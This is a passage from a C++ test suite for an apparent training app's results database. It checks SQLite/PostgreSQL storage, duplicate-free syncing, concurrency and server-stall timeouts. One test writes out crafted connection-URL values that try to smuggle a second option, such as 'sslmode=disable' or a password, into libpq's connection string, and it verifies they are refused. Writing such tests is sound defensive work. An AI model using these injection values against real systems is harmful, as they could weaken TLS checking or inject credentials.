// The results store on both back-ends (docs/results-store.md): the same schema and migrations on
// SQLite and PostgreSQL, results copied from workstations to the class's server once each (a retry
// never duplicates), many writers at once, and a server stopped in the middle of a copy.
//
// The PostgreSQL tests need a server: ctest runs this executable under pg_virtualenv (Debian's
// postgresql-common), which starts a throw-away cluster and sets PGHOST, PGPORT, PGUSER, PGPASSWORD
// and PGDATABASE; without them they are skipped (and the SQLite ones run).
#include "results/ClassSummary.h"
#include "results/ResultSync.h"
#include "results/ResultUploader.h"
#include "results/ResultsDatabase.h"
#include "results/HandOff.h"
#include "results/ServerCallDeadline.h"
#include "results/ServerConnectOptions.h"
#include "tests/widgets/ResultsServer.h"

#include <QCoreApplication>
#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include "tests/widgets/ForkedProcess.h"

#include <QProcess>
#include <QSqlDatabase>
#include <QSqlError>
#include <QSqlQuery>
#include <QSignalSpy>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>
#include <QThread>

#include <gtest/gtest.h>

#include <atomic>
#include <set>
#include <thread>
#include <tuple>

#include <arpa/inet.h>
#include <csignal>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>
#include <vector>

using namespace palpate;
using palpate::test::clearServer;
using palpate::test::serverUrl;

namespace {

ScoreReport report(double score) { return palpate::test::completedReport(score); }

QString workstation(const QTemporaryDir& dir, const QString& name, const QString& trainee, int count) {
    return palpate::test::workstationFile(dir, name, trainee, count, 50.0);
}

class Backends : public ::testing::TestWithParam<bool> {
protected:
    void SetUp() override {
        if (GetParam()) {
            REQUIRE_SERVER();
            clearServer();
            location = serverUrl();
        } else {
            ASSERT_TRUE(dir.isValid());
            location = dir.filePath(QStringLiteral("results.sqlite"));
        }
    }
    QTemporaryDir dir;
    QString location;
};

TEST_P(Backends, TheSameSchemaStoresAndReadsBack) {
    ResultsDatabase db;
    QString error;
    ASSERT_TRUE(db.open(location, &error)) << error.toStdString();
    EXPECT_EQ(db.isServer(), GetParam());
    EXPECT_EQ(db.schemaVersion(), ResultsDatabase::kSchemaVersion);
    const qint64 ann = db.addTrainee(QStringLiteral("Ann"), &error);
    ASSERT_GE(ann, 0) << error.toStdString();
    EXPECT_EQ(db.addTrainee(QStringLiteral("Ann")), ann);  // a name is one trainee
    ASSERT_GE(db.addResult(ann, report(81.25), QStringLiteral("Press"), QStringLiteral("/p.json"),
                           QDateTime::fromString(QStringLiteral("2026-12-01T10:00:00Z"), Qt::ISODate), 12.5, QString(),
                           true, &error),
              0)
        << error.toStdString();
    ASSERT_TRUE(db.putStaircase(ann, QStringLiteral("/p.json"), QStringLiteral("{\"level\":3}"), &error));
    ASSERT_TRUE(db.putStaircase(ann, QStringLiteral("/p.json"), QStringLiteral("{\"level\":2}"), &error));  // replaced
    db.close();
    ASSERT_TRUE(db.open(location, &error)) << error.toStdString();  // opening again migrates nothing
    const auto rows = db.allResults();
    ASSERT_EQ(rows.size(), 1u);
    EXPECT_EQ(rows[0].traineeName, QStringLiteral("Ann"));
    EXPECT_DOUBLE_EQ(rows[0].score, 81.25);
    EXPECT_DOUBLE_EQ(rows[0].durationS, 12.5);  // a double, not PostgreSQL's 4-byte REAL
    EXPECT_TRUE(rows[0].expert);
    EXPECT_EQ(rows[0].outcome, ResultOutcome::Completed);
    EXPECT_EQ(rows[0].uid.size(), 36);
    EXPECT_FALSE(rows[0].workstation.isEmpty());
    EXPECT_EQ(db.staircase(ann, QStringLiteral("/p.json")), QStringLiteral("{\"level\":2}"));
    EXPECT_EQ(db.expertResults(QStringLiteral("/p.json"), QStringLiteral("Press")).size(), 1u);
}

TEST_P(Backends, CopyingResultsTwiceKeepsOneOfEach) {
    QTemporaryDir local;
    const QString path = workstation(local, QStringLiteral("ws1"), QStringLiteral("Bo"), 5);
    ResultsDatabase ws, server;
    QString error;
    ASSERT_TRUE(ws.open(path, &error));
    ASSERT_TRUE(server.open(location, &error)) << error.toStdString();
    EXPECT_EQ(ws.unsyncedResults().size(), 5u);
    const SyncReport first = syncResults(ws, server);
    EXPECT_TRUE(first.error.isEmpty()) << first.error.toStdString();
    EXPECT_EQ(first.sent, 5);
    EXPECT_EQ(first.waiting, 0);
    EXPECT_TRUE(ws.unsyncedResults().empty());
    // A lost acknowledgement: the workstation thinks nothing was sent, and sends again.
    {
        QSqlDatabase raw = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("unmark"));
        raw.setDatabaseName(path);
        ASSERT_TRUE(raw.open());
        QSqlQuery(raw).exec(QStringLiteral("UPDATE results SET synced_utc = ''"));
    }
    QSqlDatabase::removeDatabase(QStringLiteral("unmark"));
    const SyncReport again = syncResults(ws, server);
    EXPECT_EQ(again.sent, 0);
    EXPECT_EQ(again.alreadyThere, 5);
    EXPECT_EQ(server.allResults().size(), 5u);
}

INSTANTIATE_TEST_SUITE_P(SqliteAndPostgresql, Backends, ::testing::Values(false, true),
                         [](const auto& info) { return info.param ? "Postgresql" : "Sqlite"; });

// A store that says it is of this version but lacks a table or a column is named as damaged,
// never read as an empty one ("no results").
TEST(SqliteStore, ADamagedSchemaIsNamedNotReadAsEmpty) {
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("damaged.sqlite"));
    {
        ResultsDatabase db;
        QString error;
        ASSERT_TRUE(db.open(path, &error)) << error.toStdString();
    }
    {
        QSqlDatabase raw = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("damage"));
        raw.setDatabaseName(path);
        ASSERT_TRUE(raw.open());
        ASSERT_TRUE(QSqlQuery(raw).exec(QStringLiteral("DROP TABLE staircases")));
    }
    QSqlDatabase::removeDatabase(QStringLiteral("damage"));
    ResultsDatabase db;
    QString error;
    EXPECT_FALSE(db.open(path, &error));
    EXPECT_TRUE(error.contains(QStringLiteral("damaged"))) << error.toStdString();
    EXPECT_TRUE(error.contains(QStringLiteral("staircases"))) << error.toStdString();
    EXPECT_TRUE(error.contains(path)) << error.toStdString();
}

// A device or a FIFO given as the store is refused before SQLite opens it (it would block on the
// FIFO, and write its journal beside the device).
TEST(SqliteStore, ADeviceOrAFifoIsNoStore) {
    QTemporaryDir dir;
    const QString fifo = dir.filePath(QStringLiteral("results.sqlite"));
    ASSERT_EQ(::mkfifo(fifo.toLocal8Bit().constData(), 0644), 0);
    const QString linkToNull = dir.filePath(QStringLiteral("null.sqlite"));
    ASSERT_TRUE(QFile::link(QStringLiteral("/dev/null"), linkToNull));
    for (const QString& path : {fifo, linkToNull}) {
        ResultsDatabase db;
        QString error;
        EXPECT_FALSE(db.open(path, &error)) << path.toStdString();
        EXPECT_TRUE(error.contains(QStringLiteral("not a regular file"))) << error.toStdString();
        EXPECT_TRUE(error.contains(path)) << error.toStdString();
    }
}

// Twenty writers at once into one workstation's store (the window's uploader, CLI runs, another
// window): each waits its turn for the write lock, and nothing is lost to "database is locked".
TEST(SqliteStore, TwentyWritersAtOnceLoseNothing) {
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("shared.sqlite"));
    {
        ResultsDatabase db;
        QString error;
        ASSERT_TRUE(db.open(path, &error)) << error.toStdString();  // made once, as the first run does
    }
    constexpr int kWriters = 20, kEach = 5;
    std::atomic<int> stored{0};
    std::vector<std::string> failures(kWriters);
    std::vector<std::thread> writers;
    for (int w = 0; w < kWriters; ++w)
        writers.emplace_back([&, w] {
            ResultsDatabase db;
            QString error;
            if (!db.open(path, &error)) {
                failures[std::size_t(w)] = error.toStdString();
                return;
            }
            const qint64 trainee = db.addTrainee(QStringLiteral("T%1").arg(w % 4), &error);
            if (trainee < 0) {
                failures[std::size_t(w)] = error.toStdString();
                return;
            }
            for (int i = 0; i < kEach; ++i) {
                if (db.addResult(trainee, report(50.0 + i), QStringLiteral("Press two targets"),
                                 QStringLiteral("/e.json"), QDateTime::currentDateTimeUtc(), 10.0, QString(),
                                 &error) < 0) {
                    failures[std::size_t(w)] = error.toStdString();
                    return;
                }
                ++stored;
            }
        });
    for (std::thread& t : writers) t.join();
    for (int w = 0; w < kWriters; ++w) EXPECT_EQ(failures[std::size_t(w)], "") << "writer " << w;
    EXPECT_EQ(stored.load(), kWriters * kEach);
    ResultsDatabase db;
    QString error;
    ASSERT_TRUE(db.open(path, &error)) << error.toStdString();
    EXPECT_EQ(db.allResults().size(), std::size_t(kWriters * kEach));
    EXPECT_EQ(db.trainees().size(), 4u);
}

TEST(PostgresqlStore, APasswordInTheUrlIsRefusedAndAnAbsentServerNamed) {
    ResultsDatabase db;
    QString error;
    EXPECT_FALSE(db.open(QStringLiteral("postgresql://ann:secret@localhost/class"), &error));
    EXPECT_TRUE(error.contains(QStringLiteral("password"))) << error.toStdString();
    EXPECT_FALSE(error.contains(QStringLiteral("secret"))) << error.toStdString();
    EXPECT_FALSE(db.open(QStringLiteral("postgresql://localhost:1/class"), &error));
    EXPECT_TRUE(error.contains(QStringLiteral("cannot connect"))) << error.toStdString();
    EXPECT_FALSE(db.open(QStringLiteral("postgresql://localhost"), &error));
    EXPECT_TRUE(error.contains(QStringLiteral("database"))) << error.toStdString();
}

// A URL's options reach libpq as quoted values of known keywords: nothing in a value adds an option
// (a smuggled password or user, or a later sslmode that turns TLS checking off), a password is
// refused in any form and never repeated, and connect_timeout cannot be 0 (for ever).
TEST(PostgresqlStore, UrlOptionsCannotSmuggleAPasswordAUserOrAnotherSslmode) {
    const auto options = [](const char* url, QString& error) {
        const std::optional<ServerConnectDef> out = serverConnectOptions(QUrl(QString::fromUtf8(url)), error);
        return out ? out->connectOptions : QString();
    };
    // Every connection asks the server to cancel a statement that runs longer than 5 s.
    const QString timeout = QStringLiteral(";options='-c statement_timeout=5000'");
    QString error;
    EXPECT_EQ(options("postgresql://ws@host/class", error),
              QStringLiteral("sslmode='prefer';connect_timeout='5'") + timeout);
    EXPECT_EQ(error, QString());
    EXPECT_EQ(options("postgresql://ws@host/class?sslmode=verify-full&sslrootcert=/etc/ca%20root.crt", error),
              QStringLiteral("sslmode='verify-full';sslrootcert='/etc/ca root.crt';connect_timeout='5'") + timeout);
    // A space in a value stays inside its quotes: one option, whatever follows the space.
    EXPECT_EQ(options("postgresql://ws@host/class?sslmode=verify-full&application_name=x%20sslmode%3Ddisable", error),
              QStringLiteral("sslmode='verify-full';application_name='x sslmode=disable';connect_timeout='5'") +
                  timeout);
    EXPECT_EQ(options("postgresql://ws@host/class?application_name=it%27s%5C", error),
              QStringLiteral("application_name='it\\'s\\\\';sslmode='prefer';connect_timeout='5'") + timeout);
    for (const char* url :
         {"postgresql://room12@host/palpate?password=room12pw", "postgresql://room12@host/palpate?PassWord=room12pw",
          "postgresql://room12@host/palpate?sslmode=prefer%20password%3Droom12pw"}) {
        EXPECT_EQ(options(url, error), QString()) << url;
        EXPECT_TRUE(error.contains(QStringLiteral("password"))) << url << ": " << error.toStdString();
        EXPECT_FALSE(error.contains(QStringLiteral("room12pw"))) << url << ": " << error.toStdString();
        ResultsDatabase db;
        QString openError;
        EXPECT_FALSE(db.open(QString::fromUtf8(url), &openError));
        EXPECT_FALSE(openError.contains(QStringLiteral("room12pw"))) << openError.toStdString();
        EXPECT_TRUE(openError.contains(QStringLiteral("password"))) << openError.toStdString();
    }
    for (const char* key : {"user", "host", "dbname", "port", "service", "options", "hostaddr"}) {
        const std::string url = std::string("postgresql://ws@host/class?") + key + "=owner";
        EXPECT_EQ(options(url.c_str(), error), QString()) << key;
        EXPECT_TRUE(error.contains(QStringLiteral("'%1'").arg(QLatin1String(key)))) << error.toStdString();
    }
    EXPECT_EQ(options("postgresql://ws@host/class?connect_timeout=0", error), QString());
    EXPECT_TRUE(error.contains(QStringLiteral("connect_timeout"))) << error.toStdString();
    EXPECT_EQ(options("postgresql://ws@host/class?connect_timeout=12", error),
              QStringLiteral("connect_timeout='12';sslmode='prefer'") + timeout);
    // A value that only names a password-like path is no password.
    EXPECT_EQ(options("postgresql://ws@host/class?sslmode=verify-full&sslrootcert=/etc/passwords/ca.crt", error),
              QStringLiteral("sslmode='verify-full';sslrootcert='/etc/passwords/ca.crt';connect_timeout='5'") +
                  timeout);
    EXPECT_EQ(options("postgresql://ws@host/class?application_name=x%20PASSWORD%20%3D%20pw", error), QString());
    EXPECT_TRUE(error.contains(QStringLiteral("password"))) << error.toStdString();
    // statement_timeout is Palpate's: the server's limit, and the client's a little after it.
    QString unused;
    const std::optional<ServerConnectDef> slow = serverConnectOptions(
        QUrl(QStringLiteral("postgresql://ws@host/class?statement_timeout=12")), unused);
    ASSERT_TRUE(slow.has_value());
    EXPECT_EQ(slow->connectOptions,
              QStringLiteral("sslmode='prefer';connect_timeout='5';options='-c statement_timeout=12000'"));
    EXPECT_EQ(slow->callDeadlineMs(), 14000);
    for (const char* url :
         {"postgresql://ws@host/class?statement_timeout=0", "postgresql://ws@host/class?statement_timeout=601",
          "postgresql://ws@host/class?statement_timeout=soon"}) {
        EXPECT_EQ(options(url, error), QString()) << url;
        EXPECT_TRUE(error.contains(QStringLiteral("statement_timeout"))) << error.toStdString();
    }
}

// A server that takes the connection and then says nothing (a stalled machine, a wrong port that
// swallows) is reported within the connect timeout, never waited on for ever; and a URL cannot ask
// to wait for ever (connect_timeout=0).
TEST(PostgresqlStore, AServerThatAcceptsAndStallsIsReportedNotWaitedOn) {
    const int listener = ::socket(AF_INET, SOCK_STREAM, 0);
    ASSERT_GE(listener, 0);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    address.sin_port = 0;
    ASSERT_EQ(::bind(listener, reinterpret_cast<sockaddr*>(&address), sizeof address), 0);
    ASSERT_EQ(::listen(listener, 8), 0);  // the kernel completes the handshake; nobody ever answers
    socklen_t length = sizeof address;
    ASSERT_EQ(::getsockname(listener, reinterpret_cast<sockaddr*>(&address), &length), 0);
    const QString url = QStringLiteral("postgresql://ws@127.0.0.1:%1/class?connect_timeout=2")
                            .arg(ntohs(address.sin_port));
    QElapsedTimer clock;
    clock.start();
    ResultsDatabase db;
    QString error;
    EXPECT_FALSE(db.open(url, &error));
    const double waitedS = double(clock.elapsed()) / 1000.0;
    std::printf("[ figures  ] a stalled server was reported after %.1f s: %s\n", waitedS, qPrintable(error));
    EXPECT_TRUE(error.contains(QStringLiteral("cannot connect"))) << error.toStdString();
    EXPECT_LT(waitedS, 60.0) << "a hang, not a timeout";
    EXPECT_FALSE(db.open(url.left(url.indexOf(QLatin1Char('?'))) + QStringLiteral("?connect_timeout=0"), &error));
    EXPECT_TRUE(error.contains(QStringLiteral("connect_timeout"))) << error.toStdString();
    ::close(listener);
}

// Eight workstations send at once, each with its own connection: every result arrives once.
// A worker's hand-off runs in the receiver's thread; one whose receiver is deleted first never runs,
// and what it held is freed with the receiver (nothing waits for an event loop that may not come).
TEST(HandOffTest, RunsInTheReceiversThreadOrGoesWithTheReceiver) {
    auto receiver = std::make_unique<QObject>();
    QThread* ranIn = nullptr;
    std::thread([&] { handOffTo(receiver.get(), [&] { ranIn = QThread::currentThread(); }); }).join();
    EXPECT_EQ(ranIn, nullptr);  // not yet: it waits for the receiver's event loop
    QCoreApplication::processEvents();
    EXPECT_EQ(ranIn, receiver->thread());

    auto held = std::make_shared<int>(1);
    bool ran = false;
    std::thread([&, copy = held] { handOffTo(receiver.get(), [&ran, copy] { ran = true; }); }).join();
    EXPECT_EQ(held.use_count(), 2);  // the pending hand-off holds its copy
    receiver.reset();
    EXPECT_EQ(held.use_count(), 1);  // freed with the receiver, at once
    QCoreApplication::processEvents();
    EXPECT_FALSE(ran);
}

// The deadline on its own: a call that outlives it has its socket shut (a blocked read returns at
// once), and a call that ends in time leaves the socket alone, even when the next call reuses it.
TEST(ServerCallDeadlineTest, ShutsTheSocketOfACallThatOutlivesItOnly) {
    int pair[2];
    ASSERT_EQ(::socketpair(AF_UNIX, SOCK_STREAM, 0, pair), 0);
    ServerCallDeadline deadline(std::chrono::milliseconds(200));
    {
        const ServerCallDeadline::Call quick(&deadline, pair[0]);
        const ServerCallDeadline::Call nested(&deadline, pair[0]);  // only the outer one sets the deadline
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(400));
    EXPECT_FALSE(deadline.expired());
    ASSERT_EQ(::write(pair[1], "x", 1), 1);
    char byte = 0;
    EXPECT_EQ(::read(pair[0], &byte, 1), 1) << "a call that ended in time had its socket shut";
    QElapsedTimer clock;
    clock.start();
    {
        const ServerCallDeadline::Call stalled(&deadline, pair[0]);
        EXPECT_EQ(::read(pair[0], &byte, 1), 0) << "the read should end when the socket is shut";
    }
    EXPECT_GE(clock.elapsed(), 150);
    EXPECT_LT(clock.elapsed(), 10000);
    EXPECT_TRUE(deadline.expired());
    ::close(pair[0]);
    ::close(pair[1]);
}

namespace {

/// A connection of the test's own as the cluster's superuser (to find and stop another's backend,
/// or to hold a lock); closed and removed with the object.
struct AdminConnection {
    AdminConnection() {
        db = QSqlDatabase::addDatabase(QStringLiteral("QPSQL"), QStringLiteral("stall-admin"));
        db.setHostName(qEnvironmentVariable("PGHOST"));
        db.setPort(qEnvironmentVariableIntValue("PGPORT"));
        db.setDatabaseName(qEnvironmentVariable("PGDATABASE"));
        db.setUserName(qEnvironmentVariable("PGUSER"));
        db.open();
    }
    ~AdminConnection() {
        db.close();
        db = QSqlDatabase();
        QSqlDatabase::removeDatabase(QStringLiteral("stall-admin"));
    }
    /// The backend serving the connection whose application_name is `name`; 0 if none.
    qint64 backendOf(const QString& name) {
        QSqlQuery q(db);
        q.prepare(QStringLiteral("SELECT pid FROM pg_stat_activity WHERE application_name = ?"));
        q.addBindValue(name);
        return q.exec() && q.next() ? q.value(0).toLongLong() : 0;
    }
    QSqlDatabase db;
};

}  // namespace

// A server that answered the connection and then stops in the middle of the session (its process
// stopped, as a machine that went to sleep): the next call gives up after the statement timeout
// and a grace, names the wait, and the database says so; never a hang. And a statement the server
// itself holds up (a lock another session keeps) is cancelled by the server at the timeout.
TEST(PostgresqlStore, AServerThatStallsMidSessionIsReportedWithinTheStatementTimeout) {
    REQUIRE_SERVER();
    clearServer();
    AdminConnection admin;
    ASSERT_TRUE(admin.db.isOpen()) << admin.db.lastError().text().toStdString();
    {
        ResultsDatabase db;
        QString error;
        ASSERT_TRUE(db.open(serverUrl() + QStringLiteral("?statement_timeout=1&application_name=palpate-stall"),
                            &error))
            << error.toStdString();
        ASSERT_GE(db.addTrainee(QStringLiteral("Ada")), 0);
        const qint64 backend = admin.backendOf(QStringLiteral("palpate-stall"));
        ASSERT_GT(backend, 0);
        ASSERT_EQ(::kill(pid_t(backend), SIGSTOP), 0);
        QElapsedTimer clock;
        clock.start();
        const auto trainees = db.trainees();
        const double waitedS = double(clock.elapsed()) / 1000.0;
        ::kill(pid_t(backend), SIGCONT);
        std::printf("[ figures  ] a server stopped mid-session was reported after %.1f s: %s\n", waitedS,
                    qPrintable(db.lastError()));
        EXPECT_TRUE(trainees.empty());
        EXPECT_TRUE(db.lastError().contains(QStringLiteral("did not answer within 3 s")))
            << db.lastError().toStdString();
        EXPECT_GE(waitedS, 2.5);
        EXPECT_LT(waitedS, 30.0) << "a hang, not a timeout";
        // The connection is spent: the next call fails at once, it does not wait again.
        clock.restart();
        EXPECT_FALSE(db.answers());
        EXPECT_LT(double(clock.elapsed()) / 1000.0, 2.5);
    }
    {
        ResultsDatabase db;
        QString error;
        ASSERT_TRUE(db.open(serverUrl() + QStringLiteral("?statement_timeout=1"), &error)) << error.toStdString();
        QSqlQuery hold(admin.db);
        ASSERT_TRUE(hold.exec(QStringLiteral("BEGIN")));
        ASSERT_TRUE(hold.exec(QStringLiteral("LOCK TABLE trainees IN ACCESS EXCLUSIVE MODE")));
        QElapsedTimer clock;
        clock.start();
        EXPECT_LT(db.addTrainee(QStringLiteral("Bo"), &error), 0);
        const double waitedS = double(clock.elapsed()) / 1000.0;
        hold.exec(QStringLiteral("ROLLBACK"));
        EXPECT_TRUE(error.contains(QStringLiteral("statement timeout"))) << error.toStdString();
        EXPECT_LT(waitedS, 2.9) << "the server's own cancel, before the client's deadline";
        // The connection survives the server's cancel.
        EXPECT_GE(db.addTrainee(QStringLiteral("Bo"), &error), 0) << error.toStdString();
    }
}

TEST(PostgresqlStore, ManyWorkstationsAtOnceLoseAndDuplicateNothing) {
    REQUIRE_SERVER();
    clearServer();
    QTemporaryDir dir;
    constexpr int kWorkstations = 8, kEach = 25;
    std::vector<QString> paths;
    for (int w = 0; w < kWorkstations; ++w)
        // Two workstations per trainee: the trainee is added by whichever comes first.
        paths.push_back(workstation(dir, QStringLiteral("ws%1").arg(w), QStringLiteral("T%1").arg(w / 2), kEach));
    std::atomic<int> sent{0}, failures{0};
    std::vector<std::thread> writers;
    for (const QString& path : paths)
        writers.emplace_back([&, path] {
            ResultsDatabase ws, server;
            QString error;
            if (!ws.open(path, &error) || !server.open(serverUrl(), &error)) {
                ++failures;
                return;
            }
            const SyncReport r = syncResults(ws, server);
            sent += r.sent;
            if (!r.error.isEmpty()) ++failures;
        });
    for (std::thread& t : writers) t.join();
    EXPECT_EQ(failures.load(), 0);
    EXPECT_EQ(sent.load(), kWorkstations * kEach);
    ResultsDatabase server;
    ASSERT_TRUE(server.open(serverUrl()));
    const auto rows = server.allResults();
    EXPECT_EQ(rows.size(), std::size_t(kWorkstations * kEach));
    std::set<QString> uids;
    for (const ResultRecord& r : rows) uids.insert(r.uid);
    EXPECT_EQ(uids.size(), rows.size());
    EXPECT_EQ(server.trainees().size(), std::size_t(kWorkstations / 2));
}

/// Opens the server, retrying for up to 30 s while it starts.
bool openWhenStarted(ResultsDatabase& db) {
    for (int i = 0; i < 60; ++i) {
        if (db.open(serverUrl())) return true;
        std::this_thread::sleep_for(std::chrono::milliseconds(500));
    }
    return false;
}

/// pg_ctlcluster on the cluster pg_virtualenv made (15/regress).
bool cluster(const char* action) {
    test::ForkedProcess p;
    p.start(QStringLiteral("pg_ctlcluster"),
            {qEnvironmentVariable("PGVERSION", QStringLiteral("15")), QStringLiteral("regress"), QString::fromLatin1(action)});
    return p.waitForFinished(60000) && p.exitCode() == 0;
}

// The server stops in the middle: the copy stops with the server's words, the rest waits on the
// workstation, and once the server is back every result is there exactly once.
TEST(PostgresqlStore, AServerStoppedMidwayGetsEveryResultOnceWhenItReturns) {
    REQUIRE_SERVER();
    clearServer();
    QTemporaryDir dir;
    constexpr int kCount = 600;  // long enough a copy (several seconds) for the stop to land in it
    const QString path = workstation(dir, QStringLiteral("ws"), QStringLiteral("Cy"), kCount);
    ResultsDatabase ws;
    ASSERT_TRUE(ws.open(path));
    SyncReport during;
    {
        ResultsDatabase server;
        QString error;
        ASSERT_TRUE(server.open(serverUrl(), &error)) << error.toStdString();
        std::thread stopper([] {
            std::this_thread::sleep_for(std::chrono::milliseconds(150));
            cluster("stop");
        });
        during = syncResults(ws, server);
        stopper.join();
    }
    if (during.error.isEmpty()) {
        // The copy won the race (a fast machine): the stop found nothing left to interrupt.
        EXPECT_EQ(during.sent, kCount);
    } else {
        EXPECT_GT(during.waiting, 0);
        EXPECT_EQ(int(ws.unsyncedResults().size()), during.waiting);
    }
    // While it is down: opening names the problem, and nothing is lost.
    ResultsDatabase away;
    QString error;
    EXPECT_FALSE(away.open(serverUrl(), &error));
    EXPECT_TRUE(error.contains(QStringLiteral("cannot connect"))) << error.toStdString();
    EXPECT_EQ(int(ws.allResults().size()), kCount);

    ASSERT_TRUE(cluster("start"));
    ResultsDatabase back;
    ASSERT_TRUE(openWhenStarted(back));
    const SyncReport after = syncResults(ws, back);
    EXPECT_TRUE(after.error.isEmpty()) << after.error.toStdString();
    EXPECT_EQ(after.waiting, 0);
    const auto rows = back.allResults();
    EXPECT_EQ(rows.size(), std::size_t(kCount));
    std::set<QString> uids;
    for (const ResultRecord& r : rows) uids.insert(r.uid);
    EXPECT_EQ(uids.size(), std::size_t(kCount));
}

// The window's uploader: off the GUI thread, it says what waits while the server is away, and that
// everything is there once it answers.
TEST(ResultUploaderTest, SaysWhatWaitsAndSendsWhenTheServerAnswers) {
    QTemporaryDir dir;
    const QString path = workstation(dir, QStringLiteral("ws"), QStringLiteral("Ed"), 2);
    ResultUploader uploader;
    EXPECT_TRUE(uploader.statusText().isEmpty());  // no server: nothing to say
    QSignalSpy changed(&uploader, &ResultUploader::changed);
    uploader.setLocations(path, QStringLiteral("postgresql://localhost:1/class"));
    EXPECT_TRUE(uploader.busy());  // started, not run on this thread
    ASSERT_TRUE(QTest::qWaitFor([&] { return uploader.hasReport() && !uploader.busy(); }, 30000));
    EXPECT_EQ(uploader.lastReport().waiting, 2);
    EXPECT_FALSE(uploader.lastReport().error.isEmpty());
    EXPECT_TRUE(uploader.statusText().contains(QStringLiteral("2 waiting"))) << uploader.statusText().toStdString();
    if (serverUrl().isEmpty()) return;
    clearServer();
    uploader.setLocations(path, serverUrl());
    ASSERT_TRUE(QTest::qWaitFor([&] { return uploader.hasReport() && !uploader.busy(); }, 30000));
    EXPECT_TRUE(uploader.lastReport().error.isEmpty()) << uploader.lastReport().error.toStdString();
    EXPECT_EQ(uploader.lastReport().sent, 2);
    EXPECT_TRUE(uploader.statusText().contains(QStringLiteral("all sent"))) << uploader.statusText().toStdString();
    EXPECT_TRUE(uploader.lastReport().connection.contains(QStringLiteral("role "))) << uploader.lastReport().connection.toStdString();
}

/// A scored press-targets session with these completion and time values.
ScoreReport pressTargets(double score, double completion, double timeS) {
    ScoreReport r = report(score);
    r.exerciseName = "Press three targets";
    r.type = ExerciseType::PressTargets;
    for (auto [metric, value] : {std::pair{Metric::Completion, completion}, std::pair{Metric::TimeS, timeS}}) {
        MetricResult m;
        m.metric = metric;
        m.value = value;
        m.weight = 1.0;
        r.metrics.push_back(m);
    }
    return r;
}

// The Class view: per trainee and exercise the sessions, latest and best, and the verdict against
// the experts' marks (here: completion and time, two experts at 1.0 in 20-24 s).
TEST(ClassSummaryTest, LatestBestAndTheVerdictPerTraineeAndExercise) {
    QTemporaryDir dir;
    ResultsDatabase db;
    QString error;
    ASSERT_TRUE(db.open(dir.filePath(QStringLiteral("class.sqlite")), &error));
    const qint64 expert = db.addTrainee(QStringLiteral("Expert")), ann = db.addTrainee(QStringLiteral("Ann")),
                 bo = db.addTrainee(QStringLiteral("Bo"));
    const QString path = QStringLiteral("/elsewhere/press_targets.json");  // another workstation's path
    auto add = [&](qint64 who, const ScoreReport& r, bool isExpert, int minute) {
        ASSERT_GE(db.addResult(who, r, QStringLiteral("Press three targets"), path,
                               QDateTime::fromString(QStringLiteral("2026-12-01T10:%1:00Z").arg(minute, 2, 10, QLatin1Char('0')),
                                                     Qt::ISODate),
                               20.0, QString(), isExpert, &error),
                  0)
            << error.toStdString();
    };
    add(expert, pressTargets(95, 1.0, 20.0), true, 0);
    add(expert, pressTargets(93, 1.0, 24.0), true, 1);
    add(ann, pressTargets(90, 1.0, 21.0), false, 2);  // passes
    add(ann, pressTargets(92, 1.0, 22.0), false, 3);  // passes again: proficient
    add(bo, pressTargets(70, 1.0, 40.0), false, 4);   // too slow
    add(bo, pressTargets(60, 0.5, 30.0), false, 5);   // incomplete
    const auto rows = classSummary(db.allResults(),
                                   defaultExerciseLookup(QStringLiteral(PALPATE_SOURCE_DIR) + QStringLiteral("/resources/exercises")));
    ASSERT_EQ(rows.size(), 2u);  // the expert is no row of the class
    EXPECT_EQ(rows[0].trainee, QStringLiteral("Ann"));
    EXPECT_EQ(rows[0].sessions, 2);
    EXPECT_DOUBLE_EQ(rows[0].latestScore, 92);
    EXPECT_DOUBLE_EQ(rows[0].bestScore, 92);
    EXPECT_EQ(rows[0].verdict, QStringLiteral("proficient")) << rows[0].standardNote.toStdString();
    EXPECT_EQ(rows[1].trainee, QStringLiteral("Bo"));
    EXPECT_DOUBLE_EQ(rows[1].latestScore, 60);
    EXPECT_DOUBLE_EQ(rows[1].bestScore, 70);
    EXPECT_EQ(rows[1].verdict, QStringLiteral("not yet"));
    EXPECT_EQ(classSummaryCsv(rows).count(QLatin1Char('\n')), 3);
    // Without the exercise file (and no example of that name) there are no marks, and it says why.
    const auto unknown = classSummary(db.allResults(), [](const QString&, const QString&) { return std::optional<Exercise>(); });
    EXPECT_EQ(unknown[0].verdict, QStringLiteral("no standard"));
    EXPECT_FALSE(unknown[0].standardNote.isEmpty());
    db.close();
    // The command line says the same.
    test::ForkedProcess p;
    p.start(QStringLiteral(PALPATE_CLI_PATH), {QStringLiteral("results"), QStringLiteral("class"), QStringLiteral("--db"),
                                               dir.filePath(QStringLiteral("class.sqlite")), QStringLiteral("--json")});
    ASSERT_TRUE(p.waitForFinished(60000));
    EXPECT_EQ(p.exitCode(), 0);
    const QJsonArray json = QJsonDocument::fromJson(p.readAllStandardOutput()).object().value(QStringLiteral("rows")).toArray();
    ASSERT_EQ(json.size(), 2);
    EXPECT_EQ(json[0].toObject().value(QStringLiteral("verdict")).toString(), QStringLiteral("proficient"));
    EXPECT_EQ(json[1].toObject().value(QStringLiteral("best_score")).toDouble(), 70.0);
}

/// palpate-cli with `arguments`; stdout and the exit code.
std::pair<int, QByteArray> cli(const QStringList& arguments) {
    test::ForkedProcess p;
    p.start(QStringLiteral(PALPATE_CLI_PATH), arguments);
    p.waitForFinished(120000);
    return {p.exitCode(), p.readAllStandardOutput()};
}

// One store by default: the command line without --db uses the data folder the window's
// Preferences name (its palpate.conf), so a result stored from the CLI is the window's; and a
// palpate.conf that is a FIFO is not read (the CLI would hang) but named, the default used.
TEST(ResultsCli, WithoutDbTheCliUsesTheWindowsDataFolder) {
    QTemporaryDir dir;
    const QString chosen = dir.filePath(QStringLiteral("class room data"));
    ASSERT_TRUE(QDir().mkpath(chosen));
